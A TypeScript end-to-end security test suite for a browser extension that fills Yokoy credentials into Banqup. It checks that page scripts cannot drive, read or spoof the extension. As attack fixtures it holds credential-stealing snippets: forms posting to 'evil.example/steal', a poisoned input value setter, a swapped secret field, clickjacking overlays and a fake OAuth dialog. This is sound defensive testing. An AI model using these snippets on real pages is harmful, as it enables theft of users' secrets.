/**
 * The page cannot drive, read or spoof the companion (issue 12). Every attack runs in the
 * page's own JavaScript world (page.evaluate: the main world, where an XSS or a compromised
 * third-party script on Banqup or Yokoy runs), against the built extension in Chromium:
 * synthetic clicks and keys, events dispatched on our host elements, fake forms and dialogs,
 * overlays and a hidden host, DOM clobbering and poisoned prototypes. Each gets nothing:
 *
 * - no message reaches the worker (a listener the test adds in the worker records every one);
 * - the secret never reaches a page-readable place (the page records every input event and
 *   value it can see; Banqup's server gets no secret);
 * - storage.local and IndexedDB are unchanged, no tab opens, a paused queue stays paused.
 *
 * The same actions by a real user (CDP input: page.mouse, page.keyboard) still work. For an
 * absence, the test waits for the event that proves it: a synchronous handler would have run
 * before page.evaluate returned; an asynchronous one goes through the same path as the real
 * action that follows, so its effect would show up first.
 */
import type { Page } from 'puppeteer-core';
import { describe, expect, it } from 'vitest';
import { banqupSeedUser } from '../../sandbox/banqup/store';
import { seedDocuments } from '../../sandbox/data/seed';
import { seed } from '../../sandbox/yokoy-api/store';
import { GuideOverlay, guideHost } from './pages/guide';
import { launcherHost } from './pages/launcher';
import { OptionsPage } from './pages/options';
import { PopupPage } from './pages/popup';
import { sendHost } from './pages/banqup-send';
import { assistantHost, YokoyAssistant } from './pages/yokoy-assistant';
import { YokoyWebPage } from './pages/yokoy-web';
import { connectExtension, readyCredentials } from './support/connect';
import { evaluateInContentScript } from './support/content-script';
import { useE2E } from './support/fixtures';
import { clickInOurUi, inOurUi, waitInOurUi } from './support/our-ui';

const secret = readyCredentials.clientSecret;

describe('the page cannot drive, read or spoof the companion', () => {
  const env = useE2E({ extension: true });

  /** Every message that reaches the worker, from now on (type and sender URL). */
  const recordWorker = () =>
    env.worker.evaluate(() => {
      const g = globalThis as unknown as { __seen?: { type: string; url?: string }[]; __tabs?: string[] };
      if (!g.__seen) {
        g.__seen = [];
        g.__tabs = [];
        chrome.runtime.onMessage.addListener((message: { type?: string }, sender) => {
          g.__seen!.push({ type: String(message?.type), url: sender.url });
          return undefined;
        });
        chrome.tabs.onCreated.addListener((tab) => g.__tabs!.push(tab.pendingUrl ?? tab.url ?? ''));
      }
      g.__seen.length = 0;
      g.__tabs!.length = 0;
    });
  const seen = () =>
    env.worker.evaluate(() => (globalThis as unknown as { __seen: { type: string; url?: string }[] }).__seen.map((m) => m.type));
  const tabsOpened = () => env.worker.evaluate(() => [...(globalThis as unknown as { __tabs: string[] }).__tabs]);

  /** storage.local and every IndexedDB store but the key's, as text. */
  const snapshot = () =>
    env.worker.evaluate(async () => {
      const local = await chrome.storage.local.get(null);
      const db = await new Promise<IDBDatabase>((ok, ko) => {
        const r = indexedDB.open('yokoy-companion');
        r.onsuccess = () => ok(r.result);
        r.onerror = () => ko(r.error);
      });
      const stores: Record<string, string> = {};
      for (const name of [...db.objectStoreNames].filter((n) => n !== 'keys')) {
        stores[name] = await new Promise<string>((ok) => {
          const req = db.transaction(name).objectStore(name).getAll();
          req.onsuccess = () =>
            ok(
              JSON.stringify(req.result, (_k, v) =>
                v instanceof ArrayBuffer || ArrayBuffer.isView(v) ? [...new Uint8Array((v as ArrayBufferView).buffer ?? v)].join('.') : v,
              ),
            );
        });
      }
      db.close();
      return JSON.stringify({ local, stores });
    });

  /**
   * The page's spy: every value it can see in input/change events and attributes, its own
   * storage, and everything it can find of our UI (host attributes, open roots). Installed in
   * the page's world; `report()` returns it as text to search for the secret.
   */
  const installSpy = (page: Page) =>
    page.evaluate(() => {
      const w = window as unknown as { __spy: string[] };
      w.__spy = [];
      for (const type of ['input', 'change', 'keydown', 'click', 'focusin', 'message']) {
        window.addEventListener(
          type,
          (e) => {
            const t = e.target as HTMLInputElement | null;
            w.__spy.push(
              `${type}:${(t && 'value' in t ? t.value : '') ?? ''}:${e
                .composedPath()
                .map((n) => (n as Element).localName ?? '')
                .join('>')}:${(e as MessageEvent).data ?? ''}`,
            );
          },
          true,
        );
      }
      new MutationObserver((records) => {
        for (const r of records)
          w.__spy.push(
            `mut:${r.attributeName ?? ''}:${(r.target as Element).getAttribute?.(r.attributeName ?? '') ?? ''}:${r.target.textContent?.slice(0, 200) ?? ''}`,
          );
      }).observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
    });
  const report = (page: Page) =>
    page.evaluate(() => {
      const w = window as unknown as { __spy: string[] };
      const ours = [...document.querySelectorAll('*')].filter((el) => el.localName.startsWith('yokoy-companion-'));
      return JSON.stringify({
        spy: w.__spy,
        html: document.documentElement.outerHTML,
        values: [...document.querySelectorAll('input')].map((i) => i.value),
        local: { ...localStorage },
        session: { ...sessionStorage },
        globals: Object.keys(window).filter((k) => /yokoy|companion/i.test(k)),
        hosts: ours.map((el) => ({ name: el.localName, attributes: el.getAttributeNames(), open: el.shadowRoot !== null })),
      });
    });

  /** The real click opens the guide, and no earlier event did: its host first appears after the click. */
  async function opensFirstOnRealClick(page: Page) {
    const at = await page.evaluate(() => performance.now());
    const firstSeen = page.evaluate(
      (host) =>
        new Promise<number>((ok) => {
          if (document.querySelector(host)) return ok(-1);
          new MutationObserver((_r, o) => {
            if (document.querySelector(host)) {
              o.disconnect();
              ok(performance.now());
            }
          }).observe(document.body, { childList: true });
        }),
      guideHost,
    );
    const opened = await new GuideOverlay(page).openFromLauncher();
    expect(await firstSeen).toBeGreaterThan(at);
    return opened;
  }

  async function banqupAtCredentials(path = '/apps/accounting/yokoy'): Promise<Page> {
    const setup = env.sandbox.state.banqup.setupFor(banqupSeedUser.userId);
    Object.assign(setup, {
      step: 'credentials',
      onlineConnection: true,
      exportType: 'invoices',
      packageId: 'yokoy',
      credentials: { clientId: '', clientSecret: '', organizationId: '' },
    });
    const page = await env.browser.newPage();
    await page.goto(`${env.sandbox.urls.banqup}/__admin/session?next=${encodeURIComponent(path)}`);
    await page.waitForFunction(() => document.querySelector('main h1') && !document.querySelector('main .loading'));
    return page;
  }
  const banqupGotSecret = () => env.sandbox.state.banqup.setupFor(banqupSeedUser.userId).credentials.clientSecret;

  it('our hosts are closed and expose nothing: no attribute, no global, no open root', async () => {
    await connectExtension(env);
    const page = await banqupAtCredentials();
    const guide = new GuideOverlay(page);
    await guide.openFromLauncher();
    const found = JSON.parse(await report(page)) as {
      hosts: { name: string; attributes: string[]; open: boolean }[];
      globals: string[];
      html: string;
    };
    expect(found.hosts.map((h) => h.name).sort()).toEqual([guideHost, launcherHost]);
    for (const host of found.hosts) {
      expect(host.open).toBe(false);
      expect(host.attributes.filter((a) => a !== 'style')).toEqual([]);
    }
    expect(found.globals).toEqual([]);
    // The guide shows the legal entities and the organization's state; none of it is in the page.
    expect(found.html).not.toContain('Acme Belgium NV');
    expect(found.html).not.toContain(seed.organizationId);
    await page.close();
  });

  it('synthetic clicks, keys and events dispatched on our hosts open nothing and move nothing', async () => {
    const page = await banqupAtCredentials('/purchases');
    await waitInOurUi(page, (root, host) => root(host)?.querySelector('button.launcher[data-armed="true"]'), launcherHost);
    await recordWorker();
    const before = await snapshot();
    await page.evaluate((host) => {
      const el = document.querySelector<HTMLElement>(host)!;
      el.click();
      for (const type of ['click', 'pointerdown', 'pointerup', 'mousedown', 'mouseup'])
        el.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true, clientX: innerWidth - 30, clientY: innerHeight - 30 }));
      el.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true }));
      // A click at the launcher's place, from the page: elementFromPoint returns our host only.
      (document.elementFromPoint(innerWidth - 30, innerHeight - 30) as HTMLElement | null)?.click();
      // The page's own fake launcher, earlier in the document (clobbering our lookups by name).
      const fake = document.createElement(host);
      fake.attachShadow({ mode: 'open' }).innerHTML = '<button class="launcher">fake</button>';
      document.body.prepend(fake);
      fake.shadowRoot!.querySelector('button')!.click();
      fake.remove();
    }, launcherHost);
    // The real user's click that follows: the guide opens now, and the page saw it first only now.
    const opened = await opensFirstOnRealClick(page);
    const guide = new GuideOverlay(page);
    expect(opened.open).toBe(true);

    // Keys and events the page dispatches on the guide's host move nothing (handled synchronously).
    await page.evaluate((host) => {
      const el = document.querySelector(host)!;
      for (const key of ['ArrowRight', 'ArrowRight', 'Escape']) {
        el.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true, composed: true }));
        window.dispatchEvent(new KeyboardEvent('keydown', { key }));
      }
      (el as HTMLElement).click();
    }, guideHost);
    const after = await guide.state();
    expect(after.open).toBe(true);
    expect(after.progress).toBe(opened.progress);
    // The real keyboard still works.
    await inOurUi(page, (root, host) => root(host)?.querySelector<HTMLElement>('#guide-title')?.focus(), guideHost);
    await page.keyboard.press('ArrowRight');
    expect((await guide.state()).progress).not.toBe(opened.progress);
    expect((await guide.state()).progress).toMatch(/2\D+14/);
    expect(await snapshot()).toBe(before);
    expect(await tabsOpened()).toEqual([]);
    expect((await seen()).filter((t) => t !== 'guide.context' && t !== 'export.progress' && t !== 'export.selection')).toEqual([]);
    await page.close();
  });

  it('Fill: a fake form on another page, an extra or swapped field, a form posting elsewhere get no secret, even on a real click', async () => {
    const attacks: { path: string; attack: string; name: string }[] = [
      {
        name: 'an invisible look-alike form on the invoice list',
        path: '/purchases',
        attack: `const f = document.createElement('form'); f.action = 'https://evil.example/steal'; f.style.cssText = 'position:fixed;left:10px;top:120px;';
          f.innerHTML = '<label>Yokoy client ID<input name="clientId" data-qa="yokoy-client-id" value="x"></label><label>Yokoy client secret<input type="password" name="clientSecret"></label>';
          document.body.append(f);`,
      },
      {
        name: 'the setup form posting elsewhere',
        path: '/apps/accounting/yokoy',
        attack: `document.querySelector('input[name="clientSecret"]').form.setAttribute('action', 'https://evil.example/steal');`,
      },
      {
        name: 'the secret field swapped for the page’s own after the guide located it',
        path: '/apps/accounting/yokoy',
        attack: `const old = document.querySelector('input[name="clientSecret"]'); const mine = old.cloneNode(true); mine.addEventListener('input', () => (window.__stolen = mine.value)); old.replaceWith(mine);`,
      },
      {
        name: 'a second password field on the setup page',
        path: '/apps/accounting/yokoy',
        attack: `const i = document.createElement('input'); i.type = 'password'; i.name = 'shadowSecret'; document.querySelector('main').append(i);`,
      },
    ];
    for (const { path, attack, name } of attacks) {
      const page = await banqupAtCredentials(path);
      await page.evaluate(() => {
        // Poisoned prototypes in the page's world: the content script's world does not share them.
        const desc = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value')!;
        Object.defineProperty(HTMLInputElement.prototype, 'value', {
          set(v: string) {
            (window as unknown as { __stolen?: string }).__stolen = v;
            desc.set!.call(this, v);
          },
          get() {
            return desc.get!.call(this);
          },
        });
      });
      await installSpy(page);
      const guide = new GuideOverlay(page);
      await guide.openFromLauncher();
      // Fill the client ID first where the page offers it (the step before the secret).
      let state = await guide.waitFor({ step: path === '/purchases' ? undefined : 'A6' });
      if (state.buttons.includes('fill-clientId')) {
        await guide.clickButton('fill-clientId');
        state = await guide.waitFor({ step: 'A7' });
      }
      await page.evaluate(attack);
      state = await guide.waitFor({ step: 'A7' });
      await recordWorker();
      const before = await snapshot();
      await guide.clickButton('fill-clientSecret');
      // The refusal is said in the panel: the event that proves nothing was filled.
      await waitInOurUi(page, (root, host) => root(host)?.querySelector('.more .note[role="status"]')?.textContent, guideHost);
      expect(await seen(), name).not.toContain('fill.value');
      const seenByPage = await report(page);
      expect(seenByPage, name).not.toContain(secret);
      expect(await page.evaluate(() => (window as unknown as { __stolen?: string }).__stolen ?? ''), name).not.toContain(secret);
      expect(banqupGotSecret(), name).toBe('');
      expect(await snapshot(), name).toBe(before);
      await page.close();
    }
  });

  it('Fill: the real user on Banqup’s own form gets the secret into Banqup’s field, through trusted clicks', async () => {
    const page = await banqupAtCredentials();
    const guide = new GuideOverlay(page);
    await guide.openFromLauncher();
    await guide.waitFor({ step: 'A6' });
    await guide.clickButton('fill-clientId');
    await guide.waitFor({ step: 'A7' });
    await guide.clickButton('fill-clientSecret');
    await guide.waitFor({ step: 'A8' });
    await expect.poll(() => banqupGotSecret()).toBe(secret);
    await page.close();
  });

  // A click on a button just shown is refused: tests/unit/trusted-gate.test.ts, on the page's
  // clock (here a real click "at once" raced the arming delay on a loaded machine).
  it('Send: a synthetic click queues nothing; a covered one is refused; a real one queues but never lifts a pause', async () => {
    const doc = seedDocuments().find((d) => d.folder === 'PURCHASES' && d.ubl)!;
    // The queue paused by the user (popup's Pause).
    await env.worker.evaluate(async () => {
      const { exportControl } = await chrome.storage.local.get('exportControl');
      await chrome.storage.local.set({ exportControl: { ...(exportControl ?? {}), paused: true } });
    });
    const page = await env.browser.newPage();
    await recordWorker();
    await page.goto(`${env.sandbox.urls.banqup}/documents/${doc.documentId}`);
    const box = await waitInOurUi(
      page,
      (root, host) => {
        const b = root(host)?.querySelector('button');
        const r = b?.getBoundingClientRect();
        return r && r.width > 0 ? { x: r.x + r.width / 2, y: r.y + r.height / 2 } : null;
      },
      sendHost,
    );
    await installSpy(page);
    const before = await snapshot();
    await page.evaluate((host) => {
      const el = document.querySelector<HTMLElement>(host)!;
      el.click();
      el.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true }));
      el.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true }));
      // Clobbering: a second "invoice" with the page's own id next to ours.
      document.body.insertAdjacentHTML(
        'beforeend',
        '<div data-document-id="00000000-0000-4000-8000-000000000000" id="yokoy-companion-send"></div>',
      );
    }, sendHost);
    // A transparent overlay over the button takes the real click: our button never sees it.
    const covered = await page.evaluate((b) => {
      const o = document.createElement('div');
      o.id = 'steal-click';
      o.style.cssText = `position:fixed;left:${b.x - 40}px;top:${b.y - 20}px;width:80px;height:40px;z-index:2147483647;opacity:0`;
      document.body.append(o);
      return true;
    }, box);
    expect(covered).toBe(true);
    await waitInOurUi(page, (root, host) => root(host)?.querySelector('button[data-armed="true"]'), sendHost);
    await page.mouse.click(box.x, box.y);
    await page.evaluate(() => document.getElementById('steal-click')?.remove());
    // Then the real user's click: it queues (paused), and its message is the only enqueue.
    await clickInOurUi(page, sendHost, 'button');
    await waitInOurUi(page, (root, host) => root(host)?.querySelector('[role="status"]')?.textContent?.trim(), sendHost);
    expect((await seen()).filter((t) => t === 'export.enqueue')).toEqual(['export.enqueue']);
    const control = await env.worker.evaluate(
      async () => (await chrome.storage.local.get('exportControl')).exportControl as { paused: boolean },
    );
    expect(control.paused).toBe(true);
    expect(before).not.toBe(await snapshot()); // the real click's job is there
    expect(await tabsOpened()).toEqual([]);
    await page.close();
  });

  it('a decoy the page lays over our button (letting clicks through) makes it refuse clicks', async () => {
    const page = await banqupAtCredentials('/purchases');
    await waitInOurUi(page, (root, host) => root(host)?.querySelector('button.launcher[data-armed="true"]'), launcherHost);
    const box = await inOurUi(
      page,
      (root, host) => {
        const r = root(host)!.querySelector('button')!.getBoundingClientRect();
        return { x: r.x + r.width / 2, y: r.y + r.height / 2 };
      },
      launcherHost,
    );
    // Something else drawn over it, which lets the pointer through to our button (a page rule on
    // our host itself cannot: the root's own :host rule wins). The browser says it is covered
    // (IntersectionObserver v2): the button is no longer armed.
    await page.evaluate((b) => {
      const o = document.createElement('div');
      o.id = 'decoy';
      o.textContent = 'Close';
      o.style.cssText = `position:fixed;left:${b.x - 60}px;top:${b.y - 25}px;width:120px;height:50px;z-index:2147483647;background:#fff;pointer-events:none`;
      document.body.append(o);
    }, box!);
    await waitInOurUi(page, (root, host) => root(host)?.querySelector('button.launcher:not([data-armed])'), launcherHost);
    await page.mouse.click(box!.x, box!.y);
    // Shown again, the real click opens the guide, and it is the first to make its host appear.
    await page.evaluate(() => document.getElementById('decoy')?.remove());
    await opensFirstOnRealClick(page);
    await page.close();
  });

  it('Yokoy: a faked credentials dialog and synthetic clicks change nothing; a real click only proposes, the popup decides', async () => {
    const page = await env.browser.newPage();
    const yokoy = new YokoyWebPage(page, env.sandbox.urls.yokoyWeb);
    const assistant = new YokoyAssistant(page);
    await yokoy.signInAs('dev', '/admin/developer');
    await assistant.waitForOffer('offer-organization-id');
    await recordWorker();
    const before = await snapshot();
    // The attacker's dialog, with its own client ID and secret, as Yokoy's would look.
    await page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<div role="dialog" aria-modal="true" data-qa="oauth-credentials-dialog"><h2>OAuth Credentials</h2>
          <label for="client-id">Client ID</label><input id="client-id" readonly value="attacker-client-0001">
          <label for="client-secret">Client secret</label><input id="client-secret" readonly value="attacker_secret_AAAAAAAAAAAA"></div>`,
      );
    });
    await page.evaluate((host) => {
      const el = document.querySelector<HTMLElement>(host)!;
      el.click();
      el.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true }));
      el.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true }));
    }, assistantHost);
    expect(await seen()).toEqual([]);
    expect(await snapshot()).toBe(before);
    // What the assistant shows (the organization ID, the outcome) is not in the page.
    const html = await page.evaluate(() => document.documentElement.outerHTML);
    expect(html).not.toContain('Waiting for your confirmation');

    // A real (clickjacked) user's click on "Use this ID" only proposes: credentials unchanged.
    await assistant.waitForOffer('offer-credentials');
    expect(await assistant.accept('offer-credentials')).toMatch(/confirmation/);
    const stored = JSON.parse(
      await env.worker.evaluate(async () => JSON.stringify((await chrome.storage.local.get('credentials')).credentials)),
    );
    const previous = JSON.parse(before).local.credentials;
    expect({ ...stored, pending: undefined }).toEqual({ ...previous, pending: undefined });
    const popup = await PopupPage.open(env.browser, env.extensionId, 'en');
    expect((await popup.pendingChanges()).length).toBeGreaterThan(0);
    await popup.decidePending(false);
    expect(
      JSON.parse(await env.worker.evaluate(async () => JSON.stringify((await chrome.storage.local.get('credentials')).credentials))),
    ).toEqual({ ...previous });
    await popup.close();
    await page.close();
  });

  it('tab-opening requests: only from the tab in front, at most one every few seconds', async () => {
    const page = await banqupAtCredentials('/purchases');
    await recordWorker();
    const answers = await evaluateInContentScript<{ opened: boolean }[]>(
      page,
      env.extensionId,
      `Promise.all([1, 2, 3].map(() => chrome.runtime.sendMessage({ type: 'open.exportView' }).then((a) => a.value)))`,
    );
    expect(answers.filter((a) => a.opened)).toHaveLength(1);
    expect(await tabsOpened()).toHaveLength(1);
    // The view it opened asks for its preview (the worker then reads the Yokoy index back):
    // closed once answered, so nothing of this test is still under way in the next one.
    const view = await (await env.browser.waitForTarget((t) => t.url().includes('popup.html?view=export'))).page();
    await view!.waitForFunction(() => /match|Banqup/.test(document.querySelector('[data-testid="export-preview"]')?.textContent ?? ''));
    await view!.close();
    await page.close();
  });

  it('options: an address the browser cannot be asked to allow is refused with why; a new token address forgets the secret', async () => {
    // "Nothing changed" is measured once the export is idle (an Export view's index read-back included).
    await env.worker.evaluate(() =>
      (globalThis as unknown as { yokoyCompanionTest: { exportIdle: () => Promise<void> } }).yokoyCompanionTest.exportIdle(),
    );
    const before = await snapshot();
    const options = await OptionsPage.open(env.browser, env.extensionId);
    await options.typeCustom({
      accountsBase: 'http://accounts.proxy.example',
      apiBase: 'https://api.proxy.example',
      webOrigin: 'https://app.proxy.example',
    });
    expect(await options.save()).toMatch(/https:\/\/.*nothing was saved.*http:\/\/accounts\.proxy\.example/);
    expect(await snapshot()).toBe(before);
    // Another (sandbox) token address: saved, and the stored secret forgotten first.
    const urls = env.sandbox.urls;
    await options.typeCustom({
      accountsBase: `${urls.yokoyApi}`.replace(/:(\d+)$/, (_m, p: string) => `:${Number(p) + 1}`),
      apiBase: urls.yokoyApi,
      webOrigin: urls.yokoyWeb,
    });
    expect(await options.save()).toMatch(/client secret was forgotten/);
    const credentials = await env.worker.evaluate(
      async () => (await chrome.storage.local.get('credentials')).credentials as { hasSecret?: boolean },
    );
    expect(credentials.hasSecret).toBe(false);
    await options.close();
  });
});
